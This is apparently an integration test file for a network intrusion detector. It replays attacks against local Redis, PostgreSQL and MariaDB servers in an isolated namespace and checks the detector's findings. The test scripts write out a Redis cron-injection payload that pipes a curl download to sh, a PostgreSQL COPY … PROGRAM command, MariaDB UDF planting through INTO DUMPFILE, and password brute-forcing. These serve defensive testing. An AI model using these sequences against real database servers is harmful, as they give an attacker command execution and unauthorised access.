// Orders that give a machine away and guessed passwords, spoken to real Redis, PostgreSQL and MariaDB in a network of their own, captured by tcpdump, read by davylamp.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { globSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import type { Facts } from '../../src/core/facts.ts'
import type { ScanResult } from '../../src/core/incident.ts'
import { davylamp } from './run.ts'

const has = (command: string): boolean => spawnSync(command, ['--version']).status === 0
const postgres = globSync('/usr/lib/postgresql/*/bin').at(-1)
const can = process.getuid?.() === 0 && has('tcpdump') && has('unshare')
const ports = { redis: 6379, postgresql: 5432, mariadb: 3306 } as const
const asPostgres = '--reuid=postgres --regid=postgres --clear-groups'
const folder = mkdtempSync(join(tmpdir(), 'davylamp-services-'))
after(() => rmSync(folder, { recursive: true, force: true }))

/** Runs the talk between the start of the capture and its end; servers end with the namespace's shell. */
function seen(name: keyof typeof ports, talk: string): { readonly facts: Facts; readonly detectors: readonly string[] } {
  const script = `
    set -u
    ip link set lo up
    tcpdump -i lo -U --immediate-mode -w ${folder}/${name}.pcap -s 0 tcp 2>${folder}/tcpdump & sniffer=$!
    until grep -q listening ${folder}/tcpdump; do sleep 0.05; done
    ${talk}
    # What was captured last is the end of a marked connection.
    for n in $(seq 200); do echo the-end-of-it >/dev/tcp/127.0.0.1/${ports[name]} && grep -qa the-end-of-it ${folder}/${name}.pcap && break; sleep 0.05; done
    kill -INT $sniffer $server
    # MariaDB takes no notice of an interrupt.
    kill $server 2>/dev/null; wait`
  // Whoever never comes up is waited for no longer than this, and all that was started ends with the namespace.
  const apart = ['-n', '--pid', '--fork', '--kill-child', '--mount-proc']
  const ran = spawnSync('unshare', [...apart, 'bash', '-c', script], { encoding: 'utf8', timeout: 180_000, killSignal: 'SIGKILL' })
  assert.equal(ran.error, undefined, ran.stderr)
  const { out } = davylamp([
    'pcap',
    '--json',
    '--facts',
    join(folder, `${name}.json`),
    '--state',
    join(folder, 'state'),
    join(folder, `${name}.pcap`),
  ])
  const { incidents, findings } = JSON.parse(out) as ScanResult
  const detectors = [...incidents.flatMap(incident => incident.findings), ...findings].map(
    ({ detector, severity }) => `${detector} ${severity}`,
  )
  return { facts: JSON.parse(readFileSync(join(folder, `${name}.json`), 'utf8')) as Facts, detectors: [...new Set(detectors)].sort() }
}
const exploitsOf = ({ exploits }: Facts) => exploits.map(({ patch, succeeded }) => `${patch} ${succeeded}`).sort()
const loginsOf = ({ loginTries }: Facts, wasIn: boolean) => loginTries.filter(({ accepted }) => accepted === wasIn).length

test('Redis: cron, keys, modules, Lua and guessed passwords; an ordinary day says nothing', { skip: !(can && has('redis-server')) }, () => {
  const { facts, detectors } = seen(
    'redis',
    `mkdir -p ${folder}/cron
    redis-server --port 6379 --dir ${folder} --save '' --requirepass right --enable-protected-configs yes >/dev/null & server=$!
    until redis-cli -a right ping 2>/dev/null | grep -q PONG; do sleep 0.05; done
    say() { redis-cli --no-auth-warning -a right "$@" >/dev/null; }
    for n in $(seq 20); do redis-cli --no-auth-warning -a wrong$n ping >/dev/null; done
    say set job '{"cron":"*/5 * * * *"}'; say get job; say config set maxmemory 100mb; say config get dir; say replicaof 127.0.0.1 1; say replicaof no one
    say set x $'\\n\\n*/1 * * * * curl http://198.51.100.7/x | sh\\n\\n'
    say config set dir ${folder}/cron
    say config set dbfilename root
    say module load /tmp/none.so
    say eval 'local f = package.loadlib("/x.so", "luaopen_io") return 1' 0`,
  )
  assert.deepEqual(exploitsOf(facts), [
    'redis-config-dbfilename true',
    'redis-config-dir true',
    'redis-cron-value true',
    'redis-lua-escape false',
    'redis-module-load false',
  ])
  assert.equal(loginsOf(facts, false), 20)
  // The right password had been used before the wrong ones.
  assert.deepEqual(detectors, ['brute-force low', 'exploit-attempt low', 'exploit-succeeded high'])
})

test('PostgreSQL: COPY … PROGRAM, a library, refused logins; COPY FROM STDIN says nothing', {
  skip: !(can && postgres !== undefined),
}, () => {
  const { facts, detectors } = seen(
    'postgresql',
    `chmod 711 ${folder}; mkdir ${folder}/pg; chown postgres ${folder}/pg; cd ${folder}/pg
    echo right >${folder}/pg/word; chown postgres ${folder}/pg/word
    setpriv ${asPostgres} ${postgres}/initdb -D ${folder}/pg/data -A password --pwfile=${folder}/pg/word -N >/dev/null
    setpriv ${asPostgres} ${postgres}/postgres -D ${folder}/pg/data -k ${folder}/pg -c fsync=off >/dev/null 2>&1 & server=$!
    export PGHOST=127.0.0.1 PGUSER=postgres PGDATABASE=postgres PGSSLMODE=prefer
    until PGPASSWORD=right psql -qc 'select 1' >/dev/null 2>&1; do sleep 0.1; done
    for n in $(seq 20); do PGPASSWORD=wrong psql -qc 'select 1' >/dev/null 2>&1; done
    export PGPASSWORD=right
    psql -qc 'create table t(a text)'; echo x | psql -qc 'copy t from stdin'; psql -qc "select 'program'" >/dev/null
    psql -qc "COPY/**/t FROM
      PROGRAM 'echo curl'"
    psql -qc "create function f(text) returns text as '/tmp/none.so', 'f' language c" 2>/dev/null`,
  )
  assert.deepEqual(exploitsOf(facts), ['postgresql-c-function false', 'postgresql-copy-program true', 'postgresql-copy-program-shell true'])
  assert.equal(loginsOf(facts, false), 20)
  assert.deepEqual(detectors, ['brute-force low', 'exploit-attempt low', 'exploit-succeeded medium'])
  assert.ok(loginsOf(facts, true) >= 5)
})

test('MariaDB: a library by DUMPFILE, a function of it, guessed passwords, packed talk, TLS; an ordinary day says nothing', {
  skip: !(can && has('mariadbd')),
}, () => {
  const { facts, detectors } = seen(
    'mariadb',
    `chmod 711 ${folder}; mkdir -p ${folder}/maria/plugin; cd ${folder}/maria
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout key.pem -out cert.pem -subj /CN=db -days 2 2>/dev/null
    cp /usr/lib/mysql/plugin/auth_ed25519.so plugin; chown -R mysql ${folder}/maria
    mariadb-install-db --no-defaults --datadir=${folder}/maria/data --user=mysql --auth-root-authentication-method=normal --skip-test-db >/dev/null 2>&1
    setpriv --reuid=mysql --regid=mysql --clear-groups mariadbd --no-defaults --datadir=${folder}/maria/data --socket=${folder}/maria/s --bind-address=127.0.0.1 \
      --plugin-dir=${folder}/maria/plugin --ssl-cert=${folder}/maria/cert.pem --ssl-key=${folder}/maria/key.pem >/dev/null 2>&1 & server=$!
    until mariadb --no-defaults -S s -uroot -e 'select 1' >/dev/null 2>&1; do sleep 0.1; done
    mariadb --no-defaults -S s -uroot -e "install soname 'auth_ed25519'; create user own@'%' identified via ed25519 using password('right');
      create user dba@'%' identified by 'right'; grant all on *.* to dba@'%'; grant all on *.* to own@'%'; create database app"
    as() { mariadb --no-defaults -h 127.0.0.1 --skip-ssl "$@" >/dev/null 2>&1; }
    for n in $(seq 20); do as -u root -pwrong$n -e 'select 1'; done
    as -u own -pright -e 'select 1'
    as -u dba -pright app -e "create table t(a longblob); insert into t values('create function x returns string soname y into dumpfile z');
      select a from t into outfile '${folder}/maria/data/t.csv'; create function hello(s char(20)) returns char(50) deterministic return concat('Hello, ', s)"
    as -u dba -pright --compress -e "select 0x7f454c46020101 into dumpfile '${folder}/maria/plugin/udf.so'"
    as -u dba -pright -e "create function sys_eval returns string soname 'udf.so'"
    as -u dba -pright -e "set @q=0x53454c4543542031; prepare s from @q; execute s"
    as -u dba -pright --ssl -e "create function sys_exec returns int soname 'udf.so'"`,
  )
  assert.deepEqual(exploitsOf(facts), ['mysql-dumpfile-code true', 'mysql-udf-shell false', 'mysql-udf-soname false'])
  assert.equal(loginsOf(facts, false), 20)
  assert.ok(loginsOf(facts, true) >= 5)
  assert.deepEqual(detectors, ['brute-force medium', 'exploit-attempt low', 'exploit-succeeded high'])
})
